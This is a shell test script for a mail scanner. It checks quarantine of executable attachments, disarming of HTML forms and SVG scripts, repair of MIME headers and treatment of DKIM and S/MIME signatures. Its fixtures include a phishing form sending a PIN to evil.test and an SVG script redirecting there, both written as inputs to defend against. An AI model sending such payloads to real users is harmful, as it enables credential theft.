#!/bin/bash
# What is found in a message is acted upon: replaced, disarmed, kept, told; and no byte changes that nobody asked to change.
set -eu
. "$(dirname "$0")/lib/tap.sh"
. "$(dirname "$0")/lib/mailscanner.sh"
. "$(dirname "$0")/lib/queue.sh"

id=1xV4MY-0004iP-0c
today=$(date +%Y%m%d)
kept=$scratch/quarantine/$today/$id
cat >"$scratch/sendmail" <<-END
	#!/bin/sh
	{ echo "ARGUMENTS: \$*"; cat; echo; } >>"$scratch/mails"
END
chmod 755 "$scratch/sendmail"

put() { # mail lines... (a file in t/mail, or in the scratch directory)
	local mail=$root/t/mail/$1.eml
	[ -e "$mail" ] || mail=$scratch/$1.eml
	shift
	rm -rf "$ms_in" "$ms_out" "$ms_state" "$ms_log" "$scratch/quarantine" "$scratch/mails"
	ms_config "Sendmail = $scratch/sendmail" "$@"
	queue_put "$ms_in" "$id" "$mail" 192.0.2.7 alice@sender.test bob@example.test
	mkdir -p "$scratch/before"
	cp -p "$ms_in/$id"-* "$scratch/before"
}
subject() {
	ms_headers "$ms_out/$id-H" | sed -n 's/^Subject: //p'
}
body() {
	sed 1d "$ms_out/$id-D"
}

put program
ok "a forbidden attachment" ms_once
is "the subject says so" "$(subject)" "{Filename?} a program for you"
ok "the status header too" grep -q 'X-Example-MailScanner: Found to be infected' "$ms_out/$id-H"
ok "the attachment is gone" eval '! body | grep -q TVqQ'
ok "a text is in its place" eval 'body | grep -q "File:    setup.exe"'
ok "with the name of the configuration" eval 'body | grep -q "Example-Attachment-Warning.txt"'
ok "preamble and epilogue stay" eval 'body | grep -q "^This is the preamble" && body | grep -q "^This is the epilogue"'
ok "the text stays, in its encoding" eval 'body | grep -q "Lieber Bob, hier ist das Programm. Grüße, Alice"'
ok "the warning on top names the file" eval 'body | grep -q "removed from this message (setup.exe)"'
ok "the file is in the quarantine" eval 'base64 -d <<<TVqQAAMAAAAEAAAA | cmp -n 12 - "$kept/setup.exe"'
ok "with what is known of the message" grep -q '^Recipient: <bob@example.test>$' "$kept/envelope"
ok "and why" grep -q '^Finding: ' "$kept/envelope"
is "the postmaster and the sender are told" "$(sed -n 's/^ARGUMENTS: .* -- //p' "$scratch/mails" | sort | tr '\n' ' ')" \
    "alice@sender.test postmaster "
ok "the log says where it is" ms_logged "Saved infected \"setup.exe\" to $kept"
ok "and that it goes on" ms_logged "Cleaned: Delivered 1 cleaned messages"
ok "and who was told" ms_logged "Sender Warnings: Delivered 1 warnings to virus senders"
is "no mail of ours is left to be sent" "$(ls "$ms_state" | grep outbox || :)" ""

put program "Quarantine Whole Message = yes" "Deliver Cleaned Messages = no"
ok "one that is not to be delivered" ms_once
is "is in no queue" "$(ls "$ms_in" "$ms_out" | grep -e '-[HD]$' || :)" ""
ok "is kept whole" eval 'tail -n +10 "$kept/message" | grep -q "^This is the preamble"'
ok "and everybody is told" grep -q 'ARGUMENTS: .* -- alice@sender.test' "$scratch/mails"

put program "Notify Senders = no" "Send Notices = no"
ok "with nobody to be told" ms_once
ok "nobody is" absent "$scratch/mails"

put form
ok "a form" ms_once
is "the subject says that it was disarmed" "$(subject)" "{Disarmed} log in here"
ok "the tag is renamed" eval 'body | grep -qi "<MailScannerForm"'
ok "the rest of the text stays as it was encoded" eval 'body | grep -q "^<html><body><p>Gr=FC=DFe</p>$"'
ok "the link is marked" eval 'body | grep -q "evil.test"'
ok "nothing is kept, for nothing was removed" absent "$kept"

put form "Convert HTML To Text = yes"
ok "a form as text" ms_once
ok "its type is text/plain" eval 'ms_headers "$ms_out/$id-H" | grep -qi "^Content-Type: text/plain"'
ok "no tag is left" eval '! body | grep -qi "<form"'
ok "its text is there" eval 'body | "$python" -c "import quopri,sys; sys.stdout.buffer.write(quopri.decodestring(sys.stdin.buffer.read()))" | grep -q Grüße'

put form "Allow Form Tags = no"
ok "a form that is not allowed" ms_once
is "the subject says so" "$(subject)" "{Dangerous Content?} log in here"
ok "the whole message is replaced" eval '! body | grep -q "evil.test/\""'

# A part of that type and disposition with a form and a script, base64, beside a text.
page() { # file type disposition name
	cat >"$scratch/$1.eml" <<END
From: Alice <alice@sender.test>
To: bob@example.test
Subject: see the page
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="page"

--page
Content-Type: text/plain

Please log in.
--page
Content-Type: $2; name="$4"
Content-Disposition: $3; filename="$4"
Content-Transfer-Encoding: base64

$(base64)
--page--
END
}
decoded() {
	body | sed -n '/^Content-Transfer-Encoding: base64/,/^--page--/p' | sed '1,2d;$d' | base64 -d
}
html='<html><body><form action="https://evil.test/"><input name="pin"></form><b>left</b></body></html>'
svg='<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://evil.test/"</script><g onclick="x()"/></svg>'
page named text/html inline page.html <<<"$html"
page attached text/html attachment page.html <<<"$html"
page stream application/octet-stream attachment page.htm <<<"$html"
page svg image/svg+xml attachment picture.svg <<<"$svg"
any=("Filename Rules =" "Filetype Rules =")
for file in named attached stream; do
	put "$file" "${any[@]}"
	ok "a page ($file)" ms_once
	ok "its form is disarmed" eval 'decoded | grep -q "<MailScannerForm[0-9]* .*<b>left</b>"'
	is "and the subject says so" "$(subject)" "{Disarmed} see the page"
	put "$file" "${any[@]}" "Disarm HTML Attachments = no"
	ok "that is done to attachments only where the site wants it" ms_once
	is "but to what is shown always ($file)" "$(decoded | grep -c '<form')" "$([ "$file" = named ] && echo 0 || echo 1)"
done
put svg "${any[@]}"
ok "a picture with script" ms_once
ok "that is none any more" eval 'decoded | grep -q "^<svg.*</svg>" && ! decoded | grep -q -e "<script" -e onclick='
put svg "${any[@]}" "Allow Script Tags = no" "Silent Viruses ="
ok "where script is not allowed" ms_once
is "the picture is replaced" "$(body | grep -c picture.svg)" 2

for mail in text attachment html-alternative bounce eight-bit odd-headers; do
	put "$mail"
	ok "$mail: once" ms_once
	same "$mail: not a byte of the body changes" "$ms_out/$id-D" "$scratch/before/$id-D"
done

cat >"$scratch/two-types.eml" <<'END'
From: Alice <alice@sender.test>
To: bob@example.test
Subject: a flower
Date: Sun, 22 Nov 2026 09:07:00 +0000
Message-ID: <two-types@sender.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="flower"

--flower
Content-Type: text/plain; charset=us-ascii

One attachment, with two types and two names.
--flower
Content-Type: image/png; name="flower.png"
Content-Type: application/octet-stream
X-Comment: which is it?
Content-Transfer-Encoding: base64
Content-Disposition: attachment;
	filename="flower.png"; filename="flower.jpg"

iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YA
AAAASUVORK5CYII=
--flower--
END
put two-types
ok "a part with two types and two names" ms_once
ok "leaves with those that were judged" eval 'body | grep -q "^Content-Type: image/png; name=flower.png$"'
ok "and without the others" eval '! body | grep -q -e octet-stream -e "flower.jpg"'
ok "the log says so" ms_logged "$id: the Content headers of 1 part are written anew, for mail programs would differ on them"
is "nothing else changes" "$(body | grep -v -i '^content-type: image\|^content-disposition: att\|filename=')" \
    "$(sed 1d "$scratch/before/$id-D" | grep -v -i '^content-type: \(image\|application\)\|^content-disposition: att\|name=')"
{
	printf '%s\n' 'From: Alice <alice@sender.test>' 'Subject: a page' 'Content-Type (it is): text/html' \
	    'MIME-Version: 1.0' 'Content-Type: text/plain; format=flowed' 'Content-Type: text/html' '' '<b>hello</b>'
} >"$scratch/two-heads.eml"
put two-heads
ok "a message with three types" ms_once
is "has one" "$(ms_headers "$ms_out/$id-H" | grep -i '^content')" "Content-Type: text/plain; format=flowed"
same "its text stays" "$ms_out/$id-D" "$scratch/before/$id-D"
put two-types "Mend Ambiguous Headers = no"
ok "where the site doesn't want it" ms_once
same "nothing changes" "$ms_out/$id-D" "$scratch/before/$id-D"

put text "Sign Clean Messages = yes"
ok "a text to be signed" ms_once
is "it is what it was, and the signature" "$(body)" "$(sed 1d "$scratch/before/$id-D")

-- 
This message was checked for viruses and other dangerous content."
put text "Sign Clean Messages = yes" "Inline Text Signature = $scratch/signature"
echo 'Geprüft von $hostname' >"$scratch/signature"
ok "with a signature of the site's" ms_once
ok "that is what stands there" eval 'body | tail -n 1 | grep -q "von "'
put dkim-signed "Sign Clean Messages = yes"
ok "a message with a DKIM signature" ms_once
same "is not signed" "$ms_out/$id-D" "$scratch/before/$id-D"
ok "and the log says why" grep -q "DKIM" "$ms_log"
put dkim-signed "Sign Clean Messages = yes" "Keep Signatures = no"
ok "unless the site wants it" ms_once
ok "then it is" eval 'body | grep -q "was checked for viruses"'

# What is done for safety is done whatever is signed, and said.
sed -e 's/^Content-Type: text.plain.*/Content-Type: text\/html/' -e 's/^Please log in.*/<form action="x">log in<\/form>/' \
    "$root/t/mail/dkim-signed.eml" >"$scratch/dkim-form.eml"
put dkim-form
ok "a form in a message with a DKIM signature" ms_once
ok "is disarmed" eval 'body | grep -q "<MailScannerForm"'
ok "and one line says what that breaks" ms_logged \
    "$id: changes that the configuration asks for (html) break a signature of the sender: DKIM of bank.test"
is "just one" "$(ms_count 'break a signature')" 1
cat >"$scratch/smime-form.eml" <<'END'
From: Alice <alice@sender.test>
To: bob@example.test
Subject: signed
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s"

--s
Content-Type: text/html

<form action="x">log in</form>
--s
Content-Type: application/pkcs7-signature; name=smime.p7s
Content-Transfer-Encoding: base64

MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEA
--s--
END
put smime-form
ms show --parts "$scratch/smime-form.eml" >"$scratch/shown" 2>/dev/null
ok "what would be changed is shown before" grep -qx 'When it leaves: part 1 is changed (html)' "$scratch/shown"
ok "and what that breaks" grep -qx ' *a signature of the sender breaks: part 0: it is signed' "$scratch/shown"
ok "when it leaves" ms_once
ok "so it is logged" ms_logged "$id: changes that the configuration asks for (html) break a signature of the sender: part 0: it is signed"

# Programs that look for files in texts find them where nobody reads.
for place in preamble epilogue; do
	uu=$'begin 644 setup.exe\n#35J0\n`\nend'
	{
		sed -n '1,/^$/p' "$root/t/mail/program.eml" | sed 's/boundary="[^"]*"/boundary="bb"/'
		[ $place = epilogue ] || echo "$uu"
		printf -- '--bb\nContent-Type: text/plain\n\nhello\n--bb--\n'
		[ $place = preamble ] || echo "$uu"
	} >"$scratch/uu-$place.eml"
	put "uu-$place"
	ok "a forbidden file in the $place" ms_once
	ok "is gone" eval '! body | grep -q "^#35J0"'
	ok "is in the quarantine" test -s "$kept/setup.exe"
	ok "and reported" eval 'body | grep -q "setup.exe"'
done

# What lies in signed data can't be disarmed.
openssl req -x509 -newkey rsa:2048 -nodes -keyout "$scratch/key.pem" -out "$scratch/cert.pem" -days 2 \
    -subj /CN=alice@sender.test 2>/dev/null
opaque() { # file html
	printf 'Content-Type: text/html\n\n%s\n' "$2" | openssl cms -sign -nodetach -signer "$scratch/cert.pem" \
	    -inkey "$scratch/key.pem" -from alice@sender.test -to bob@example.test -subject signed >"$scratch/$1.eml"
}
opaque opaque-form '<form action="x">log in</form>'
opaque opaque-text '<b>hello</b>'
put opaque-form
ok "a form in signed data (S/MIME)" ms_once
is "stops it" "$(subject)" "{Dangerous Content?} signed"
ok "it is kept" grep -q 'log in' "$kept/unnamed"
ok "and the log says that the signature is gone" ms_logged \
    "$id: changes that the configuration asks for (cleaning) break a signature of the sender: part 0: it was signed, and is gone"
put opaque-form "Allow Form Tags = yes"
ok "unless forms are allowed" ms_once
same "then it goes on as it is" "$ms_out/$id-D" "$scratch/before/$id-D"
put opaque-text
ok "signed data without one" ms_once
same "goes on" "$ms_out/$id-D" "$scratch/before/$id-D"
ok "what is in it is shown" eval 'ms show --parts "$scratch/opaque-text.eml" 2>/dev/null | grep -q "^  1  text/html"'

put text "External Message Warning = yes"
ok "mail from outside" ms_once
ok "has a warning on top" eval 'body | head -n 1 | grep -q "outside of our organisation"'
ok "the log says so" ms_logged "Message is external, prepending warning for $id"

put attachment "Zip Attachments = yes" "Attachments Min Total Size To Zip = 0" "Attachments Zip Filename = all.zip"
ok "attachments to be zipped" ms_once
ok "are in one archive" eval 'body | grep -q "all.zip"'
finish
